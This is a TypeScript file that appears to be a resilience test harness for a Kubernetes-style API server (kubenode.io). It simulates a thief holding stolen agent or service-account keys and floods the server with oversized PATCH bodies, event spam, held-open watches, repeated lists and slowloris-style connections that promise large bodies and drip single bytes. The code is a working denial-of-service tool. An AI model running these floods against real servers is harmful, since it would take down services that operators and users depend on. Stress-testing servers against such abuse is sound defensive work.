// A process with the stolen key of one agent, or with the keys of many service accounts, which floods the server in one way until it is ended. It does what
// costs most, not what a client would do.
import { Agent, request } from 'node:https'
import type { IncomingMessage } from 'node:http'
import { setPriority } from 'node:os'
import { connect, createSecureContext } from 'node:tls'
import { assertNever } from '#lib/errors.ts'
import type { Target } from '../apiserver/load.ts'

export const FLOODS = ['wide', 'events', 'watches', 'lists', 'slow', 'accounts'] as const
export type Flood = (typeof FLOODS)[number]

export interface FloodOrder {
  readonly flood: Flood
  readonly target: Target
  readonly machine: string
  readonly connections: number
  /** Service accounts without a right, for the flood of that name. */
  readonly accounts: readonly Target[]
}

const OURS = '/apis/kubenode.io/v1alpha1'
const STATUS = 'application/merge-patch+json'
/** After a rejection the client retries almost at once; in the short pause the other connections get their turn. */
const AGAIN_MS = 1

interface Sent {
  readonly method: string
  readonly path: string
  readonly body?: Buffer
  readonly type?: string
}

const keys = (count: number): object => Object.fromEntries(Array.from({ length: count }, (_, i) => [`key-${i}`, i]))
const jsonOf = (value: unknown): Buffer => Buffer.from(JSON.stringify(value))

/** What is sent the n-th time; of wide objects the ones that are refused at once and the widest that are not. */
function works(flood: Flood, machine: string): (n: number) => Sent {
  switch (flood) {
    case 'wide': {
      const path = `${OURS}/machines/${machine}/status`
      const bodies = [100_000, 4_000, 900].map((count) => jsonOf({ status: keys(count) }))
      return (n) => ({ method: 'PATCH', path, type: STATUS, body: bodies[n % bodies.length] ?? Buffer.alloc(0) })
    }
    case 'events':
      return (n) => ({
        method: 'POST',
        path: '/apis/events.k8s.io/v1/namespaces/default/events',
        type: 'application/json',
        body: jsonOf({
          apiVersion: 'events.k8s.io/v1',
          kind: 'Event',
          metadata: { name: `flood-${process.pid}-${n}` },
          eventTime: '2026-01-01T00:00:00.000000Z',
          reportingController: 'kubenode.io/agent',
          reportingInstance: machine,
          action: 'Flood',
          reason: 'Flood',
          type: 'Normal',
          note: 'x'.repeat(1_000),
          regarding: { kind: 'Machine', apiVersion: 'kubenode.io/v1alpha1', name: machine, namespace: 'default' },
        }),
      })
    case 'watches':
      return () => ({ method: 'GET', path: `${OURS}/machines?watch=true&allowWatchBookmarks=true` })
    case 'lists':
    case 'slow':
    case 'accounts':
      return () => ({ method: 'GET', path: `${OURS}/machines` })
    default:
      return assertNever(flood)
  }
}

/** Watches are left open for a moment, so that many are; their first answer is all machines. */
const WATCH_MS = 500

function exchange(
  agent: Agent,
  { host, port }: Target,
  { method, path, body, type }: Sent,
  isWatch: boolean,
): Promise<void> {
  return new Promise((resolve) => {
    const headers = body === undefined ? {} : { 'content-type': type, 'content-length': body.length }
    const sent = request({ host, port, method, path, agent, headers }, (response: IncomingMessage) => {
      response.resume()
      response.once('close', resolve)
      if (isWatch) setTimeout(() => response.destroy(), WATCH_MS)
    })
    sent.once('error', () => resolve())
    sent.end(body)
  })
}

async function closedLoop({ flood, target, machine, connections }: FloodOrder): Promise<void> {
  const { ca, cert, key } = target
  const work = works(flood, machine)
  let n = 0
  const loop = async (): Promise<void> => {
    const agent = new Agent({ keepAlive: true, maxSockets: 1, ca, cert, key })
    for (;;) {
      await exchange(agent, target, work(n++), flood === 'watches')
      await new Promise((resolve) => setTimeout(resolve, AGAIN_MS))
    }
  }
  await Promise.all(Array.from({ length: connections }, loop))
}

const headOf = (method: string, path: string, type: string, length: number): string =>
  `${method} ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: ${type}\r\ncontent-length: ${length}\r\n\r\n{`

const slowBodies = ({ target, machine, connections }: FloodOrder): Promise<void> =>
  heldOpen(target, connections, { heads: [headOf('PATCH', `${OURS}/machines/${machine}/status`, STATUS, 65_000)] })

const REVIEWS = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews'

/** Bodies that are promised: as large as any may be, and a smaller one after each refusal, until nothing is left for those of others. */
const PROMISED = [3 * 1024 * 1024 - 1, 65_000, 3_000, 100, 8]

/** What every account may ask, with a body that never ends; and a connection with nothing after its answer. */
const ofAccounts = ({ accounts, connections }: FloodOrder, begun: () => void): Promise<unknown> => {
  let open = 0
  const opened = (): void => void (++open === accounts.length * connections && begun())
  const heads = PROMISED.map((length) => headOf('POST', REVIEWS, 'application/json', length))
  const idle = 'GET /version HTTP/1.1\r\nhost: x\r\n\r\n'
  return Promise.all(accounts.map((account) => heldOpen(account, connections, { heads, idle, opened })))
}

interface HeldOpen {
  /** The next one after a refusal. */
  readonly heads: readonly string[]
  /** What one in six connections sends instead. */
  readonly idle?: string
  readonly opened?: () => void
}

/** Connections that send a head, then a byte of a body now and then; one that is closed is opened again. */
async function heldOpen(target: Target, connections: number, { heads, idle, opened }: HeldOpen): Promise<void> {
  const { host, port, ca, cert, key } = target
  const secureContext = createSecureContext({ ca, cert, key })
  const loop = async (sent: readonly string[], hasBody: boolean): Promise<void> => {
    for (let n = 0; ;)
      await new Promise<void>((resolve) => {
        const socket = connect({ host, port, secureContext })
        const drop = setInterval(() => hasBody && socket.write(' '), 50)
        socket.once('secureConnect', () => {
          socket.write(sent[n] ?? '')
          opened?.()
        })
        socket.on('error', () => undefined)
        socket.on('data', () => {
          if (!hasBody) return
          n = Math.min(n + 1, sent.length - 1)
          socket.destroy()
        })
        socket.once('close', () => {
          clearInterval(drop)
          resolve()
        })
      })
  }
  const isIdle = (i: number): boolean => idle !== undefined && i % 6 === 5
  await Promise.all(
    Array.from({ length: connections }, (_, i) => (isIdle(i) ? loop([idle ?? ''], false) : loop(heads, true))),
  )
}

/** A thief has a machine of their own: what their requests cost to make is not what is measured. */
if (process.send !== undefined) setPriority(19)
if (process.send !== undefined)
  process.once('message', (order: FloodOrder) => {
    const begun = (): void => void process.send?.('started')
    if (order.flood === 'accounts') {
      void ofAccounts(order, begun)
      return
    }
    begun()
    void (order.flood === 'slow' ? slowBodies(order) : closedLoop(order))
  })
process.once('disconnect', () => process.exit(0))
